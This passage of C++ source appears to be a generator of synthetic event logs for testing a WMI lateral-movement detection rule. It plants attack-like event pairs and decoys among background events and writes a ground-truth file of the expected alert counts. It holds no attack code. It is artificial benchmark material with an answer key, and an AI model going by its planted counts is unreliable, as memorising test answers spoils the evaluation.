        if (host.os_type == "windows") windows_hosts.push_back(static_cast<uint32_t>(h));
    }

    // Event times: strictly increasing, 1-9 ms apart, from 2024-05-01T08:00:00Z.
    std::vector<int64_t> ts(events);
    int64_t t = 1'714'550'400'000;
    for (uint64_t i = 0; i < events; ++i) ts[i] = (t += 1 + static_cast<int64_t>(rng.below(9)));

    // Scenarios: about one planted pair per 2,500 events and one decoy of each kind per 10,000 events, spread
    // evenly through the stream in a shuffled order.
    std::vector<Scenario> kinds;
    const uint64_t pairs = std::max<uint64_t>(1, events / 2500);
    for (uint64_t i = 0; i < pairs; ++i) {
        const uint64_t r = i % 10;
        kinds.push_back(r < 7    ? Scenario::pair
                        : r == 7 ? Scenario::pair_sysmon
                        : r == 8 ? Scenario::two_children
                                 : Scenario::two_connections);
    }
    for (size_t k = static_cast<size_t>(Scenario::loopback); k < kScenarioKinds; ++k)
        for (uint64_t i = 0; i < std::max<uint64_t>(1, events / 10000); ++i) kinds.push_back(static_cast<Scenario>(k));
    for (size_t i = kinds.size(); i > 1; --i) std::swap(kinds[i - 1], kinds[rng.below(i)]);

    std::vector<Event> scenario_events;
    std::vector<int32_t> slot_of(events, -1);  // event index -> scenario_events index
    std::vector<int64_t> busy_until(host_count, INT64_MIN);
    std::array<uint64_t, kScenarioKinds> placed{}, skipped{};
    uint64_t expected_alerts = 0;
    constexpr int64_t kGuardMs = 21'000;
    for (size_t k = 0; k < kinds.size(); ++k) {
        std::vector<Planned> plan = plan_scenario(kinds[k], rng);
        const uint64_t start = (2 * k + 1) * events / (2 * kinds.size());
        std::vector<uint64_t> at;
        bool fits = true;
        for (const Planned& p : plan) {
            uint64_t j =
                static_cast<uint64_t>(std::lower_bound(ts.begin(), ts.end(), ts[start] + p.offset_ms) - ts.begin());
            while (j < events && (slot_of[j] >= 0 || (!at.empty() && j <= at.back()))) ++j;
            if (j >= events) {
                fits = false;
                break;
            }
            at.push_back(j);
        }
        // Hosts free from kGuardMs before the first event (and until kGuardMs after the last).
        std::array<int64_t, 2> chosen{-1, -1};
        const int slots_needed =
            plan.empty() ? 0 : 1 + std::max_element(plan.begin(), plan.end(), [](auto& a, auto& b) {
                                       return a.host_slot < b.host_slot;
                                   })->host_slot;
        for (int s = 0; fits && s < slots_needed; ++s) {
            for (int attempt = 0; attempt < 256 && chosen[s] < 0; ++attempt) {
                const uint32_t h = windows_hosts[rng.below(windows_hosts.size())];
                if (busy_until[h] < ts[at.front()] - kGuardMs && (s == 0 || chosen[0] != h)) chosen[s] = h;
            }
            if (chosen[s] < 0) fits = false;
        }
        if (!fits) {
            ++skipped[static_cast<size_t>(kinds[k])];
            continue;
        }
        for (int s = 0; s < slots_needed; ++s) busy_until[chosen[s]] = ts[at.back()] + kGuardMs;
        for (size_t e = 0; e < plan.size(); ++e) {
            plan[e].event.host = static_cast<uint32_t>(chosen[plan[e].host_slot]);
            if (plan[e].event.kind == Kind::network) {
                plan[e].event.dst_ip = hosts[plan[e].event.host].ip;
                if (plan[e].event.direction == "outgoing" || plan[e].event.direction == "egress")
                    std::swap(plan[e].event.src_ip, plan[e].event.dst_ip);
            }
            slot_of[at[e]] = static_cast<int32_t>(scenario_events.size());
            scenario_events.push_back(std::move(plan[e].event));
        }
        ++placed[static_cast<size_t>(kinds[k])];
        if (planted(kinds[k])) ++expected_alerts;
    }

    std::FILE* f = std::fopen(out_path.c_str(), "wb");
    if (f == nullptr) {
        std::fprintf(stderr, "eqlc_gen_events: cannot write %s: %s\n", out_path.c_str(), std::strerror(errno));
        return 1;
    }
    uint64_t bytes = 0;
    uint64_t model_alerts = 0;
    {
        Out out(f);
        Rng background(seed ^ 0xB4C6D5E7F8091A2Bull);
        std::vector<int64_t> pending(host_count, INT64_MIN);  // the model: newest stage-1 time per host
        Event e;
        for (uint64_t i = 0; i < events; ++i) {
            if (slot_of[i] >= 0) {
                e = scenario_events[static_cast<size_t>(slot_of[i])];
            } else {
                e = Event{};
                fill_background(e, background, hosts, i);
            }
            e.ts = ts[i];
            if (stage2(e, hosts) && pending[e.host] != INT64_MIN) {
                if (e.ts - pending[e.host] <= 20'000) ++model_alerts;
                pending[e.host] = INT64_MIN;
            }
            if (stage1(e, hosts)) pending[e.host] = e.ts;
            write_event(out, e, hosts);
        }
        out.flush();
        bytes = out.written();
    }
    if (std::fclose(f) != 0) {
        std::fprintf(stderr, "eqlc_gen_events: cannot write %s: %s\n", out_path.c_str(), std::strerror(errno));
        return 1;
    }
    if (model_alerts != expected_alerts) {
        std::fprintf(stderr, "eqlc_gen_events: internal error: the model counts %llu alerts, %llu were planted\n",
                     static_cast<unsigned long long>(model_alerts), static_cast<unsigned long long>(expected_alerts));
        return 1;
    }

    std::string truth = "{\"alerts\":" + std::to_string(expected_alerts) +
                        ",\"rule\":\"rules/wmi_incoming_lateral_movement.eql\",\"events\":" + std::to_string(events) +
                        ",\"hosts\":" + std::to_string(host_count) + ",\"seed\":" + std::to_string(seed) +
                        ",\"bytes\":" + std::to_string(bytes) + ",\"model_alerts\":" + std::to_string(model_alerts) +
                        ",\"scenarios\":{";
    for (size_t k = 0; k < kScenarioKinds; ++k) {
        if (k) truth += ',';
        truth += std::string("\"") + kScenarioNames[k] + "\":{\"placed\":" + std::to_string(placed[k]) +
                 ",\"alerts_each\":" + (planted(static_cast<Scenario>(k)) ? "1" : "0") +
                 ",\"skipped\":" + std::to_string(skipped[k]) + "}";
    }
    truth += "}}\n";
    if (!truth_path.empty()) {
        std::FILE* tf = std::fopen(truth_path.c_str(), "wb");
        if (tf == nullptr || std::fwrite(truth.data(), 1, truth.size(), tf) != truth.size() || std::fclose(tf) != 0) {
            std::fprintf(stderr, "eqlc_gen_events: cannot write %s\n", truth_path.c_str());
            return 1;
        }
    }
    std::fprintf(stderr, "eqlc_gen_events: %llu events, %llu bytes (%.0f per event), %llu alerts planted\n",
                 static_cast<unsigned long long>(events), static_cast<unsigned long long>(bytes),
                 events ? static_cast<double>(bytes) / static_cast<double>(events) : 0.0,
                 static_cast<unsigned long long>(expected_alerts));
    return 0;
}
